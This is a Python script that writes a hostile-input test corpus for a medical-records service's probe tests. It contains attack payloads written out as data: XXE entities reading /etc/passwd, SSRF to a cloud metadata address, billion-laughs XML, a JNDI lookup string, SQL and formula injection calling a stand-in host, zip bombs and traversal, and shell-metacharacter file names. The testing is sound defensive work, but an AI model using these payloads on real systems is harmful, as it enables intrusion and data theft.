#!/usr/bin/env python3
"""Writes RecordHub's hostile-input corpus (run from this folder; the files are committed).

Every item is something a careless or hostile client, provider or file could send. The probe test
(src/test/java/org/recordhub/ProbeIT.java) sends each where it would arrive and checks: no 5xx, a
refusal that names its reason, every file in a final status, the service healthy after, and the
canary value below in no log line. Items carry the canary where a patient's data would be.
"""
import base64, io, json, os, shutil, struct, zipfile, zlib

CANARY = "Zqxcanary"  # a patient's name no log line may ever show

def write(folder, name, data):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))

for folder in ("api", "fhir", "csv", "files"):
    shutil.rmtree(folder, ignore_errors=True)

# ---------------------------------------------------------------- API: POST /api/v1/requests
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
def request():
    patient = {"name": {"given": ["Ada"], "family": CANARY}, "birthDate": "1980-01-02",
               "identifiers": [{"system": "urn:oid:1.2.3.4", "value": "MRN-" + CANARY}]}
    return {"patient": patient,
            "authorization": {"patient": patient, "signed": True, "signatureDate": "2026-10-01",
                              "signer": {"type": "PATIENT", "name": "Ada " + CANARY},
                              "anyProviderMayDisclose": True, "recipients": ["Smith & Lee LLP"],
                              "informationDescription": "All records", "authorizedDateRange": {"from": "2023-01-01", "to": "2024-06-30"},
                              "informationCategories": ["GENERAL"], "purposes": ["LITIGATION"], "expirationDate": "2036-10-01",
                              "statements": {"rightToRevoke": True, "conditioning": True, "redisclosure": True}, "plainLanguage": True},
            "authorizationDocument": base64.b64encode(PDF).decode(), "providers": ["sandbox-clinic"],
            "dateRange": {"from": "2023-01-01", "to": "2024-06-30"}, "recordTypes": ["ALL"], "purpose": "LITIGATION",
            "priority": "ROUTINE"}

def set_path(body, path, value):
    node = body
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value

api = {}
good = json.dumps(request())
api["broken-truncated.json"] = good[: len(good) // 2]
api["broken-trailing-comma.json"] = good[:-1] + ",}"
api["broken-single-quotes.json"] = good.replace('"', "'")
api["broken-unquoted-keys.json"] = "{patient: {name: {family: '" + CANARY + "'}}}"
api["broken-comment.json"] = "/* " + CANARY + " */" + good
api["broken-two-documents.json"] = good + good
api["broken-bare-string.json"] = json.dumps(CANARY)
api["broken-number.json"] = "12345678901234567890123456789"
api["broken-empty.json"] = ""
api["broken-whitespace.json"] = "   \n\t  "
api["broken-null.json"] = "null"
api["broken-array.json"] = "[" + good + "]"
api["broken-bom.json"] = "\ufeff" + good
api["broken-nan.json"] = good.replace('"ROUTINE"', "NaN")
api["broken-control-chars.json"] = good.replace(CANARY, CANARY + "\u0001\u0002")
api["broken-invalid-escape.json"] = good.replace(CANARY, CANARY + "\\x41")
api["broken-latin1.json"] = good.replace("Ada", "Ad\u00e9").encode("latin-1")
api["broken-utf16.json"] = good.encode("utf-16")
for path, values in {
    ("patient",): [None, CANARY, 42, [], True],
    ("patient", "name"): [None, CANARY, [CANARY], 7],
    ("patient", "name", "family"): [None, 42, {"x": CANARY}, [CANARY], ""],
    ("patient", "name", "given"): [None, CANARY, [None], [42], [[CANARY]]],
    ("patient", "birthDate"): [None, "1980-13-45", "not a date " + CANARY, 19800102, "0000-01-01", "9999-12-31", "1980-02-30"],
    ("patient", "identifiers"): [None, CANARY, [None], [{"system": None, "value": CANARY}], [{"system": "urn:oid:" + CANARY, "value": ""}]],
    ("providers",): [None, [], CANARY, [None], [42], ["../../etc/passwd"], ["sandbox-clinic"] * 500, ["no-such-" + CANARY]],
    ("dateRange",): [None, {"from": "2024-06-30", "to": "2023-01-01"}, {"from": CANARY}, "2023"],
    ("recordTypes",): [None, ["NOT_A_TYPE"], CANARY, [None]],
    ("purpose",): [None, "NOT_A_PURPOSE", 3, ""],
    ("priority",): [None, "URGENT!!", {}, False],
    ("authorizationDocument",): [None, "not base64 " + CANARY, base64.b64encode(b"GIF89a" + CANARY.encode()).decode(), "", "===="],
    ("authorization",): [None, CANARY, []],
    ("authorization", "signatureDate"): ["yesterday " + CANARY, None],
    ("authorization", "signer"): [None, {"type": "ROBOT", "name": CANARY}],
    ("authorization", "statements"): [CANARY, None],
}.items():
    for i, value in enumerate(values):
        body = request()
        set_path(body, list(path), value)
        api["type-" + "-".join(path) + "-" + str(i) + ".json"] = json.dumps(body)
for name, family in {
    "unicode-rtl-override": CANARY + "\u202egnp.exe",
    "unicode-zero-width": CANARY + "\u200b\u200c\u200d\ufeff",
    "unicode-emoji": CANARY + "\U0001F600\U0001F4A9",
    "unicode-nul": CANARY + "\u0000",
    "unicode-combining": CANARY + "e\u0301" * 40,
    "unicode-lone-surrogate": None,
    "unicode-html": "<script>alert('" + CANARY + "')</script>",
    "unicode-sql": CANARY + "'; drop table event; --",
    "unicode-crlf-log-forging": CANARY + "\r\n2026-01-01 INFO forged line",
    "unicode-format-string": CANARY + "%s%n%x{}${jndi:ldap://x/a}",
    "huge-name": CANARY * 20000,
    "huge-unicode-name": "\u4e2d" * 30000 + CANARY,
}.items():
    body = request()
    if family is None:
        api[name + ".json"] = json.dumps(body).replace(CANARY, CANARY + "\\ud800", 1)
        continue
    body["patient"]["name"]["family"] = family
    api[name + ".json"] = json.dumps(body)
body = request(); body["patient"]["identifiers"] = [{"system": "urn:oid:1.2.3.4", "value": CANARY}] * 5000
api["huge-array.json"] = json.dumps(body)
api["deep-nesting-objects.json"] = '{"patient":' + '{"a":' * 5000 + "1" + "}" * 5001
api["deep-nesting-arrays.json"] = '{"providers":' + "[" * 10000 + "]" * 10000 + "}"
body = request(); body["extra"] = {"__proto__": {"admin": True}, "@class": "java.lang.Runtime"}
api["extra-polymorphic.json"] = json.dumps(body)
body = request(); body["patient"]["patient"] = body["patient"]
api["duplicate-keys.json"] = good[:-1] + ', "patient": null}'
for name, data in api.items():
    write("api", name, data)

# ---------------------------------------------------------------- FHIR: POST /fhir (ITI-65)
patient = {"resourceType": "Patient", "name": [{"family": CANARY, "given": ["Ada"]}], "birthDate": "1980-01-02"}
def docref(**extra):
    d = {"resourceType": "DocumentReference", "status": "current", "subject": {"reference": "urn:uuid:p1"},
         "content": [{"attachment": {"contentType": "application/pdf", "data": base64.b64encode(PDF).decode()}}],
         "masterIdentifier": {"system": "urn:ietf:rfc:3986", "value": "urn:oid:1.2.3." + CANARY}}
    d.update(extra)
    return d
def bundle(type_, entries):
    return {"resourceType": "Bundle", "type": type_, "entry": entries}
def entry(resource, url, method="POST", full="urn:uuid:x"):
    return {"fullUrl": full, "resource": resource, "request": {"method": method, "url": url}}
fhir = {}
ok = bundle("transaction", [entry(docref(), "DocumentReference")])
fhir["malformed-truncated.json"] = json.dumps(ok)[:60]
fhir["malformed-not-json.json"] = "Patient " + CANARY
fhir["malformed-empty.json"] = ""
fhir["malformed-array.json"] = "[" + json.dumps(ok) + "]"
fhir["malformed-no-resource-type.json"] = json.dumps({"type": "transaction", "name": CANARY})
fhir["malformed-unknown-resource-type.json"] = json.dumps({"resourceType": "Patientt", "name": CANARY})
fhir["malformed-wrong-type-birthdate.json"] = json.dumps(bundle("transaction", [entry(dict(patient, birthDate=19800102), "Patient")]))
fhir["malformed-invalid-date.json"] = json.dumps(bundle("transaction", [entry(dict(patient, birthDate="1980-13-45 " + CANARY), "Patient")]))
fhir["malformed-unknown-element.json"] = json.dumps(bundle("transaction", [entry(dict(patient, secret=CANARY), "Patient")]))
fhir["malformed-name-as-string.json"] = json.dumps(bundle("transaction", [entry(dict(patient, name=CANARY), "Patient")]))
fhir["malformed-invalid-code.json"] = json.dumps(bundle("transaction", [entry(docref(status="lost-" + CANARY), "DocumentReference")]))
fhir["malformed-invalid-base64.json"] = json.dumps(bundle("transaction", [entry(docref(content=[{"attachment": {"contentType": "application/pdf", "data": "!!" + CANARY + "!!"}}]), "DocumentReference")]))
fhir["malformed-entry-not-object.json"] = json.dumps({"resourceType": "Bundle", "type": "transaction", "entry": [CANARY]})
fhir["malformed-deep-extension.json"] = json.dumps({"resourceType": "Bundle", "type": "transaction", "extension": [{"url": "x", "extension": []}]}).replace('"extension": []', '"extension": [' + '{"url":"x","extension":[' * 400 + "]}" * 400 + "]")
fhir["malformed-control-chars.json"] = json.dumps(bundle("transaction", [entry(dict(patient, name=[{"family": CANARY + "\u0007\u0000"}]), "Patient")]))
fhir["malformed-huge-string.json"] = json.dumps(bundle("transaction", [entry(dict(patient, name=[{"family": CANARY * 30000}]), "Patient")]))
for t in ("batch", "collection", "document", "searchset", "history", "message", "nonsense"):
    fhir["not-a-transaction-" + t + ".json"] = json.dumps(bundle(t, [entry(docref(), "DocumentReference")]))
fhir["not-a-bundle-patient.json"] = json.dumps(patient)
fhir["not-a-bundle-docref.json"] = json.dumps(docref())
fhir["transaction-empty.json"] = json.dumps(bundle("transaction", []))
fhir["transaction-patient-only.json"] = json.dumps(bundle("transaction", [entry(patient, "Patient")]))
fhir["transaction-delete.json"] = json.dumps(bundle("transaction", [{"request": {"method": "DELETE", "url": "Task/1"}}]))
fhir["transaction-no-request.json"] = json.dumps({"resourceType": "Bundle", "type": "transaction", "entry": [{"resource": docref()}]})
fhir["transaction-bad-url.json"] = json.dumps(bundle("transaction", [entry(docref(), "../../admin")]))
fhir["transaction-docref-no-content.json"] = json.dumps(bundle("transaction", [entry(docref(content=[]), "DocumentReference")]))
fhir["transaction-docref-url-content.json"] = json.dumps(bundle("transaction", [entry(docref(content=[{"attachment": {"contentType": "application/pdf", "url": "file:///etc/passwd"}}]), "DocumentReference")]))
fhir["transaction-docref-ssrf.json"] = json.dumps(bundle("transaction", [entry(docref(content=[{"attachment": {"contentType": "application/pdf", "url": "http://169.254.169.254/latest/meta-data/"}}]), "DocumentReference")]))
fhir["transaction-1000-entries.json"] = json.dumps(bundle("transaction", [entry(patient, "Patient", full="urn:uuid:%d" % i) for i in range(1000)]))
xml_ok = '<Bundle xmlns="http://hl7.org/fhir"><type value="transaction"/></Bundle>'
fhir["xml-xxe-file.xml"] = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]><Bundle xmlns="http://hl7.org/fhir"><type value="transaction"/><id value="&x;"/></Bundle>'
fhir["xml-xxe-http.xml"] = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY x SYSTEM "http://127.0.0.1:1/' + CANARY + '">]><Bundle xmlns="http://hl7.org/fhir"><id value="&x;"/></Bundle>'
fhir["xml-billion-laughs.xml"] = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "' + CANARY + '">' + "".join('<!ENTITY %s "%s">' % (chr(98 + i), ("&" + chr(97 + i) + ";") * 10) for i in range(9)) + ']><Bundle xmlns="http://hl7.org/fhir"><id value="&j;"/></Bundle>'
fhir["xml-malformed.xml"] = "<Bundle xmlns=\"http://hl7.org/fhir\"><type value=\"transaction\"><name>" + CANARY
fhir["xml-not-fhir.xml"] = "<html><body>" + CANARY + "</body></html>"
fhir["xml-transaction-patient.xml"] = '<Bundle xmlns="http://hl7.org/fhir"><type value="transaction"/><entry><resource><Patient><name><family value="' + CANARY + '"/></name><birthDate value="1980-99-99"/></Patient></resource><request><method value="POST"/><url value="Patient"/></request></entry></Bundle>'
for name, data in fhir.items():
    write("fhir", name, data)

# ---------------------------------------------------------------- CSV: POST /api/v1/providers/nppes
HEADER = '"NPI","Entity Type Code","Provider Organization Name (Legal Business Name)","Provider First Line Business Practice Location Address","Provider Business Practice Location Address City Name","Provider Business Practice Location Address State Name","Provider Business Practice Location Address Postal Code","Provider Business Practice Location Address Fax Number"\n'
csv = {
    "empty.csv": "",
    "header-only.csv": HEADER,
    "no-header.csv": '"1234567893","2","Clinic","1 Main","Town","MA","02110","6175550100"\n',
    "wrong-header.csv": '"a","b"\n"1","2"\n',
    "unbalanced-quote.csv": HEADER + '"1234567893","2","Clinic ' + CANARY + ',"1 Main"\n',
    "bad-npi.csv": HEADER + '"12345","2","Clinic","1 Main","Town","MA","02110","6175550100"\n',
    "npi-letters.csv": HEADER + '"ABCDEFGHIJ","2","Clinic","1 Main","Town","MA","02110","6175550100"\n',
    "bad-fax.csv": HEADER + '"1234567893","2","Clinic","1 Main","Town","MA","02110","call us ' + CANARY + '"\n',
    "too-few-columns.csv": HEADER + '"1234567893","2"\n',
    "too-many-columns.csv": HEADER + '"1234567893","2","C","1","T","MA","02110","6175550100","x","y","z"\n',
    "bom.csv": "\ufeff" + HEADER + '"1234567893","2","Clinic","1 Main","Town","MA","02110","6175550100"\n',
    "nul-bytes.csv": HEADER + '"1234567893","2","Cl\u0000inic","1 Main","Town","MA","02110","6175550100"\n',
    "binary.csv": bytes(range(256)) * 40,
    "formula-injection.csv": HEADER + '"1234567893","2","=HYPERLINK(""http://x/' + CANARY + '"")","1 Main","Town","MA","02110","6175550100"\n',
    "crlf-and-cr.csv": HEADER.replace("\n", "\r") + '"1234567893","2","Clinic","1 Main","Town","MA","02110","6175550100"\r',
    "huge-field.csv": HEADER + '"1234567893","2","' + CANARY * 5000 + '","1 Main","Town","MA","02110","6175550100"\n',
    "zip-not-csv.csv": None,
}
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("readme.txt", CANARY)
csv["zip-not-csv.csv"] = buf.getvalue()
for name, data in csv.items():
    write("csv", name, data)

# ---------------------------------------------------------------- files: arriving from a provider
def png(width, height, body=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")
def zipped(entries, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()
files = {}
files["zero-bytes.pdf"] = b""
files["one-byte.pdf"] = b"%"
files["header-only.pdf"] = b"%PDF-1.7\n"
files["truncated.pdf"] = PDF[: len(PDF) // 2]
files["no-pages.pdf"] = PDF
files["garbage-xref.pdf"] = PDF.replace(b"trailer", b"xref\n0 999999\ntrailer")
files["encrypted-unknown-filter.pdf"] = PDF.replace(b"<</Root 1 0 R>>", b"<</Root 1 0 R/Encrypt<</Filter/Unknown/V 9/R 9/O(x)/U(y)/P -1>>>>")
files["self-referencing-pages.pdf"] = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
files["huge-count.pdf"] = PDF.replace(b"/Count 0", b"/Count 2147483647")
files["javascript.pdf"] = PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('" + CANARY.encode() + b"'))>>")
files["polyglot-pdf-zip.pdf"] = PDF + zipped([("a.txt", CANARY)])
files["polyglot-zip-pdf.zip"] = zipped([("a.txt", CANARY)]) + PDF
files["html-as-pdf.pdf"] = b"<html><body>" + CANARY.encode() + b"</body></html>"
files["exe-as-pdf.pdf"] = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + CANARY.encode()
files["pdf-as-txt.txt"] = PDF
files["text-as-tif.tif"] = ("Patient: " + CANARY).encode()
files["tiff-header-garbage.tif"] = b"II*\x00\x08\x00\x00\x00" + b"\xff" * 100
files["tiff-bad-ifd-offset.tif"] = b"II*\x00\xff\xff\xff\x7f"
files["png-bomb.png"] = png(100000, 100000)
files["png-truncated.png"] = png(10, 10, b"\x00" * 31)[:40]
files["png-as-jpg.jpg"] = png(1, 1, b"\x00\x00\x00\x00")
files["jpeg-garbage.jpg"] = b"\xff\xd8\xff\xe0" + b"\x00" * 50
files["gif-tiny.gif"] = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
files["zip-bomb.zip"] = zipped([("records.pdf", b"\x00" * (300 * 1024 * 1024))])
files["zip-nested.zip"] = zipped([("inner.zip", zipped([("inner2.zip", zipped([("records.txt", "Patient " + CANARY)]))]))])
files["zip-many-entries.zip"] = zipped([("f%05d.txt" % i, "x") for i in range(5000)])
files["zip-traversal.zip"] = zipped([("../../../../tmp/recordhub-" + CANARY + ".pdf", PDF)])
files["zip-absolute-path.zip"] = zipped([("/etc/recordhub-" + CANARY + ".pdf", PDF)])
files["zip-empty.zip"] = zipped([])
files["zip-truncated.zip"] = zipped([("a.pdf", PDF * 50)])[:100]
files["zip-encrypted-flag.zip"] = zipped([("a.pdf", PDF)], zipfile.ZIP_STORED).replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00", 1)
files["ccda-xxe.xml"] = '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3"><title>&x;</title><recordTarget><patientRole><patient><name><family>' + CANARY + '</family></name></patient></patientRole></recordTarget></ClinicalDocument>'
files["ccda-billion-laughs.xml"] = fhir["xml-billion-laughs.xml"].replace("Bundle", "ClinicalDocument").replace("http://hl7.org/fhir", "urn:hl7-org:v3")
files["ccda-malformed.xml"] = '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>' + CANARY
files["ccda-not-ccda.xml"] = "<note><to>" + CANARY + "</to></note>"
files["json-as-record.json"] = json.dumps({"patient": CANARY})
files["empty-text.txt"] = "   \n"
files["binary-noise.bin"] = bytes((i * 7919) % 256 for i in range(20000))
files["utf16-text.txt"] = ("Patient: " + CANARY + "\nProgress note").encode("utf-16")
files["no-extension"] = PDF
files["double-extension.pdf.exe"] = b"MZ" + CANARY.encode()
files["spaces in the name  .pdf"] = b"%PDF-1.4 broken"
files["unicode-name-\u202egnp.pdf"] = b"%PDF-1.4 broken"
files["unicode-name-\u00e9\u4e2d\U0001F600.pdf"] = b"%PDF-1.4 broken"
files["long-name-" + "x" * 180 + ".pdf"] = b"%PDF-1.4 broken"
files["UPPER-CASE.PDF"] = b"%PDF-1.4 broken"
files["semicolon;and$dollar`tick.pdf"] = b"%PDF-1.4 broken"
files[".hidden.pdf"] = PDF
for name, data in files.items():
    write("files", name, data)

counts = {f: len(os.listdir(f)) for f in ("api", "fhir", "csv", "files")}
print(counts, "total", sum(counts.values()))
